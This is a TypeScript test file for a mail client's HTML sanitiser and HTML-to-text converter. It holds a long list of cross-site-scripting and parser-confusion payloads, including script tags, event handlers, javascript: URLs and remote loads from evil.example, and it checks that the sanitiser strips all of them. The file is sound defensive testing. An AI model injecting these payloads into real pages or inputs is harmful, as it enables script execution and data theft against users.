/** HTML from outside: nothing in it may run, call home, or leave its place; and its text. */
import { expect } from 'chai';
import fc from 'fast-check';
import { Window } from 'happy-dom';
import { textOfHtml } from '../../../../../server/channels/mail/html-text.ts';
import { safeHtml } from '../../../../../server/channels/mail/mail-html.ts';
import { cpuMsOf } from '../../../../support/cpu-time.ts';

const none = { urlOfContentId: new Map<string, string>() };
const safe = (html: string): string => safeHtml(html, none).html;

const vectors = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT/SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" `onerror=alert(1)>',
  '<img src="cid:a"onload="alert(1)">',
  '<body onload=alert(1)><p onclick=alert(1) ONMOUSEOVER=alert(1)>x',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><a title="</xmp><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"><img src=x onerror=alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=pin><button formaction="javascript:alert(1)">x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\tscr\nipt:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="https:\u200b//evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//"><a href="x">y</a>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; p { background: url(//evil.example) }</style>',
  '<p style="background:url(//evil.example/x.png)">x</p>',
  '<p style="background-image:u\\72l(//evil.example)">x</p>',
  '<p style="width:expression(alert(1));behavior:url(x.htc)">x</p>',
  '<p style="color:red;position:fixed;top:0;z-index:9">x</p>',
  '<p style="font-family:x;}body{background:url(//evil.example)">x</p>',
  '<p style="color:red/*;*/;content:url(//evil.example)">x</p>',
  '<p style="margin:-999px">x</p>',
  '<img srcset="//evil.example/a 1x, javascript:alert(1) 2x">',
  '<picture><source srcset="//evil.example/a"><img src="//evil.example/b"></picture>',
  '<video poster="//evil.example/a"><source src="//evil.example/v"></video><audio src="//evil.example">',
  '<table background="//evil.example/x"><td background="javascript:alert(1)">x</table>',
  '<input type=image src="//evil.example/x"><isindex action="javascript:alert(1)">',
  '<a href="//evil.example">x</a><a href="/admin">y</a><a href="?x">z</a><a href="#top">t</a>',
  '<p id=login class=modal name=x data-x=y tabindex=1 contenteditable accesskey=x is=x slot=x>x</p>',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<div><div "><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
];

const tags = new Set(
  (
    'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del div dl dt em ' +
    'figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q s samp section ' +
    'small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'
  ).split(' '),
);
const attributes = new Set(
  (
    'style dir lang title align valign bgcolor width height href rel target src alt color face size start type border ' +
    'cellpadding cellspacing colspan rowspan nowrap span'
  ).split(' '),
);

/** Judged by what a DOM makes of it, not by its text. */
function expectHarmless(html: string, from: string): void {
  const window = new Window({ settings: { disableJavaScriptEvaluation: true, disableCSSFileLoading: true } });
  try {
    const { body } = window.document;
    body.innerHTML = html;
    for (const element of body.querySelectorAll('*')) {
      expect(tags.has(element.localName), `<${element.localName}> from ${from}`).to.equal(true);
      for (const { name, value } of element.attributes) {
        expect(attributes.has(name), `${name} from ${from}`).to.equal(true);
        if (name === 'href') expect(value, from).to.match(/^(?:https?:\/\/|mailto:|tel:)/i);
        if (name === 'src') expect(value, from).to.match(/^\/files\//);
        if (name === 'style')
          expect(value, from).to.not.match(/url|\(\s*["']?\/|position|expression|import|@|\\|-\d/i);
      }
    }
  } finally {
    window.close();
  }
}

describe('the HTML of a mail', function () {
  this.timeout(30_000);

  it('has nothing left that runs, loads or covers', () => {
    for (const vector of vectors) expectHarmless(safe(vector), vector);
    expectHarmless(safe(vectors.join('\n')), 'all of them');
  });

  it('is harmless when pieces of attacks are joined at random', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...vectors),
        fc.constantFrom(
          '<',
          '>',
          '"',
          "'",
          '--',
          '<!--',
          '-->',
          '</',
          '/>',
          '=',
          ' ',
          '&lt;',
          '\0',
          '<p ',
          '<a href=',
        ),
        fc.constantFrom(
          '<svg>',
          '</svg>',
          '<math>',
          '<style>',
          '</style>',
          '<table>',
          '<iframe>',
          '</iframe>',
          '<title>',
        ),
      ),
      { maxLength: 12 },
    );
    fc.assert(
      fc.property(pieces, (list) => {
        const html = list.join('');
        expectHarmless(safe(html), html);
      }),
      { numRuns: 300 },
    );
  });

  it('keeps what makes it readable', () => {
    expect(safe('<p style="color: #ff0000; margin: 0 auto; POSITION: absolute">a <b>b</b></p>')).to.equal(
      '<p style="color:#ff0000;margin:0 auto">a <b>b</b></p>',
    );
    expect(safe('<a href="https://x.example/a?b=c&amp;d" onclick="x()">y</a>')).to.equal(
      '<a href="https://x.example/a?b=c&amp;d" target="_blank" rel="noopener noreferrer nofollow">y</a>',
    );
    expect(safe('<a href="mailto:a@b.example">y</a>')).to.include('href="mailto:a@b.example"');
    expect(safe('<table border="1"><tr><td colspan="2" bgcolor="#eeeeee">x</td></tr></table>')).to.equal(
      '<table border="1"><tr><td colspan="2" bgcolor="#eeeeee">x</td></tr></table>',
    );
    expect(safe('5 < 6 && "x"')).to.equal('5 &lt; 6 &amp;&amp; "x"');
  });

  it('shows images of the mail only, and counts the others', () => {
    const html =
      '<img src="cid:a%40b" alt="logo"><img src="CID:missing"><img src="https://x.example/track.gif" width="1">' +
      '<img src="data:image/png;base64,AAAA"><img alt="nothing"><img srcset="//x.example/a 2x">';
    const shown = safeHtml(html, { urlOfContentId: new Map([['a@b', '/files/1?x=1&y=2']]) });
    expect(shown.html)
      .to.include('src="/files/1?x=1&amp;y=2"')
      .and.not.match(/x\.example|data:|cid:/i);
    expect(shown).to.include({ blockedImages: 4, isTextOnly: false });
    expect(shown.shownContentIds).to.deep.equal(['a@b']);
  });

  it('is its text when it is nested without measure, in no time', async () => {
    const spentMs = await cpuMsOf(() => {
      const deep = safeHtml('<div>'.repeat(200_000) + '<i>deep & low' + '</b>'.repeat(200_000), none);
      expect(deep).to.include({ isTextOnly: true, html: '<pre>deep &amp; low</pre>' });
      const wide = '<p style="color:red">x<a href="https://a.example/'.concat('y'.repeat(1000), '">z</a>');
      expect(safeHtml(wide.repeat(2000), none).isTextOnly).to.equal(false);
    });
    expect(spentMs).to.be.below(5_000);
  });
});

describe('the text of an HTML', () => {
  it('has paragraphs, lists, quotations, tables and links', () => {
    const html =
      '<head><title>t</title><style>p{}</style></head><body><h1>Offer</h1><p>Dear\n  Anna,<br>see <a href="https://x.example/a">here</a> ' +
      'or <a href="https://y.example/">https://y.example/</a>.</p><ul><li>one</li><li>two<ol><li>inner</li></ol></li></ul>' +
      '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table><blockquote><p>old</p><p>older</p></blockquote>' +
      '<pre>x\n  y</pre><img alt="Logo"> <a href="javascript:x">z</a> <a href="mailto:a@b.example">write</a>&nbsp;&lt;ok&gt;';
    expect(textOfHtml(html).split('\n')).to.deep.equal([
      'Offer',
      '',
      'Dear Anna,',
      'see here <https://x.example/a> or https://y.example/.',
      '',
      '- one',
      '- two',
      '',
      '  1. inner',
      '',
      'a b',
      'c',
      '',
      '> old',
      '>',
      '> older',
      '',
      'x',
      '  y',
      '',
      '[Logo] z write <a@b.example>\u00a0<ok>',
    ]);
  });

  it('is the title when there is nothing else, and never refused by Postgres', () => {
    expect(textOfHtml('<title>Only this</title>')).to.equal('Only this');
    expect(textOfHtml('a&#0;b&#xD800;c')).to.equal('a\uFFFDb\uFFFDc');
    expect(textOfHtml('<script>x</script>')).to.equal('');
  });

  it('is made in no time, however deep', async () => {
    const spentMs = await cpuMsOf(() => {
      const deep = '<blockquote><ul><li><b>'.repeat(100_000) + 'x' + '</i></ul>'.repeat(100_000);
      expect(textOfHtml(deep)).to.match(/x$/);
      for (const unit of ['<', '<a href="', '<!--', '<p', '&amp', '<br>', '<title>', '</p>'])
        textOfHtml(unit.repeat(200_000));
      textOfHtml(`${'\u00a0'.repeat(1_000_000)}x`);
    });
    expect(spentMs).to.be.below(5_000);
  });
});
